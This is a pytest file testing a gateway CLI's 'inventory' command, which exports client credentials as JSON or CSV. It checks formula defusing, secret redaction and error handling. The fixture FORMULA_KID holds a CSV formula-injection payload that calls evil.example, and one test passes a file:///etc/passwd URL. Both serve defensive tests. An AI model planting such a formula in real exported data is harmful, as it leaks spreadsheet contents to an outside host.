"""``pkjwt-gateway inventory --admin URL``: a running gateway's inventory as JSON or CSV.

A real gateway and its admin listener on loopback; the verb runs in a thread (it blocks on
its HTTP fetch while the loop serves the answer). Errors exit 2 with the reason on stderr.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import subprocess
import sys
import time
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer

from gateway.cli.inventory import CSV_COLUMNS
from gateway.cli.main import main
from tests.conftest import ISSUER, GatewayFactory, Running
from tests.support.ports import free_port
from tests.support.tokens import make_signer

ROOT = Path(__file__).resolve().parents[2]
# A kid a client publishes itself (jwks_uri): a spreadsheet would run it as a formula.
FORMULA_KID = "=HYPERLINK(\"https://evil.example/\"&A1)"

Server = Callable[..., Awaitable[TestServer]]


@pytest.fixture(autouse=True)
def _restore_logging() -> Iterator[None]:
    """main() points the root logger at this test's captured stderr: put it back after."""
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    yield
    for handler in list(root.handlers):
        root.removeHandler(handler)
    for handler in handlers:
        root.addHandler(handler)
    root.setLevel(level)


async def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = await asyncio.to_thread(main, ["inventory", *argv])
    out, err = capsys.readouterr()
    # The servers of the test share the process (and its stderr): their access log aside.
    err = "".join(line for line in err.splitlines(keepends=True)
                  if " aiohttp.access " not in line)
    return code, out, err


async def used_gateway(start_gateway: GatewayFactory, aiohttp_server: Server,
                       ) -> tuple[Running, str]:
    signer = make_signer("ES256", kid=FORMULA_KID, slot=3)
    gw = await start_gateway(signer, client='owner: "@ops"\n    description: "Deploys, nightly"')
    token = signer.assertion(gw.client_id, ISSUER, now=time.time())
    assert (await gw.post(gw.form(token)))[0] == 200
    admin = await aiohttp_server(gw.gateway.admin)
    return gw, str(admin.make_url("")).rstrip("/")


async def test_json_is_the_document_the_admin_listener_serves(
    start_gateway: GatewayFactory, aiohttp_server: Server, capsys: pytest.CaptureFixture[str]
) -> None:
    gw, admin = await used_gateway(start_gateway, aiohttp_server)
    code, out, err = await run(capsys, "--admin", admin)
    assert (code, err) == (0, "")
    document = json.loads(out)
    [entry] = document["clients"]
    [key] = entry["credentials"]
    assert (entry["client_id"], entry["owner"], key["kid"], key["uses"]) == (
        gw.client_id, "@ops", FORMULA_KID, 1)
    # The inventory's own URL works as well as the listener's.
    code, again, _ = await run(capsys, "--admin", admin + "/inventory", "--format", "json")
    assert code == 0 and json.loads(again)["clients"] == document["clients"]


async def test_csv_has_one_row_per_credential_and_defuses_formulas(
    start_gateway: GatewayFactory, aiohttp_server: Server, capsys: pytest.CaptureFixture[str]
) -> None:
    gw, admin = await used_gateway(start_gateway, aiohttp_server)
    code, out, err = await run(capsys, "--admin", admin, "--format", "csv")
    assert (code, err) == (0, "")
    header, *rows = list(csv.reader(io.StringIO(out)))
    assert tuple(header) == CSV_COLUMNS
    [row] = [dict(zip(header, values, strict=True)) for values in rows]
    assert {name: row[name] for name in ("client_id", "state", "methods", "kind", "source",
                                         "present", "uses", "algorithms", "expiry")} == {
        "client_id": gw.client_id, "state": "active", "methods": "private_key_jwt",
        "kind": "key", "source": "jwks", "present": "true", "uses": "1",
        "algorithms": "ES256", "expiry": ""}
    # Text a client or the configuration chose never starts a cell with a formula sign.
    assert (row["kid"], row["owner"]) == ("'" + FORMULA_KID, "'@ops")
    assert row["description"] == "Deploys, nightly" and row["thumbprint"] == row["ref"][4:]


async def test_a_client_without_credentials_and_secret_use_get_rows(
    start_gateway: GatewayFactory, aiohttp_server: Server, capsys: pytest.CaptureFixture[str]
) -> None:
    gw = await start_gateway(client="legacy_auth: {allow: [client_secret_post]}")
    status, _, _ = await gw.post({"grant_type": "client_credentials", "client_id": gw.client_id,
                                  "client_secret": "s3cret-value"})
    assert status == 200
    admin = str((await aiohttp_server(gw.gateway.admin)).make_url("")).rstrip("/")
    code, out, _ = await run(capsys, "--admin", admin, "--format", "csv")
    assert code == 0 and "s3cret-value" not in out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(row["kind"], row["ref"], row["uses"], row["present"]) for row in rows] == [
        ("key", rows[0]["ref"], "0", "true"),
        ("secret", "secret:client_secret_post", "1", "true")]


async def _answering(aiohttp_server: Server, status: int, body: str,
                     delay: float = 0.0) -> str:
    async def answer(_: web.Request) -> web.Response:
        await asyncio.sleep(delay)
        return web.Response(status=status, text=body, content_type="text/html")

    app = web.Application()
    app.router.add_get("/inventory", answer)
    return str((await aiohttp_server(app)).make_url("")).rstrip("/")


@pytest.mark.parametrize(("status", "body", "delay", "message"), [
    pytest.param(200, "<html>login</html>", 0.0, "did not answer JSON", id="not-json"),
    pytest.param(200, '{"status": "ok"}', 0.0, "no inventory", id="json-but-no-inventory"),
    pytest.param(404, "", 0.0, "answered 404", id="not-found"),
    pytest.param(200, "{}", 2.0, "timed out", id="too-slow"),
])
async def test_a_bad_answer_exits_2_with_its_reason(
    aiohttp_server: Server, capsys: pytest.CaptureFixture[str], status: int, body: str,
    delay: float, message: str,
) -> None:
    url = await _answering(aiohttp_server, status, body, delay)
    code, out, err = await run(capsys, "--admin", url, "--timeout", "0.3")
    assert (code, out) == (2, "")
    assert err.startswith("error: ") and message in err and "Traceback" not in err


@pytest.mark.parametrize(("admin", "message"), [
    pytest.param(None, "cannot reach", id="nothing-listening"),
    pytest.param("file:///etc/passwd", "http(s) URL", id="not-http"),
    pytest.param("127.0.0.1:9100", "http(s) URL", id="no-scheme"),
])
async def test_an_unreachable_or_bad_url_exits_2(
    capsys: pytest.CaptureFixture[str], admin: str | None, message: str
) -> None:
    url = admin or f"http://127.0.0.1:{free_port()}"
    code, out, err = await run(capsys, "--admin", url)
    assert (code, out) == (2, "") and message in err and "Traceback" not in err


def test_the_verb_runs_as_a_command(tmp_path: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "gateway", "inventory", "--admin",
         f"http://127.0.0.1:{free_port()}", "--timeout", "2"],
        capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert result.returncode == 2 and "cannot reach" in result.stderr
